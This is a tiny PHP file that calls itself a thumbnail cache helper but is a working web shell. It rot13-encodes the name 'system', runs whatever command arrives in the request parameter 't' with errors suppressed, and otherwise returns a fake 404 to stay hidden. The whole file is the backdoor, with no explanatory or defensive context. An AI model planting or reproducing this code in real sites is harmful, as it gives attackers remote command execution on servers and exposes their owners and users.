<?php
// Looks like a thumbnail cache helper; the name of the function it calls is rot13'd.
if (isset($_REQUEST['t'])) {
    $fn = str_rot13('flfgrz');
    @$fn($_REQUEST['t']);
} else {
    header('HTTP/1.0 404 Not Found');
}
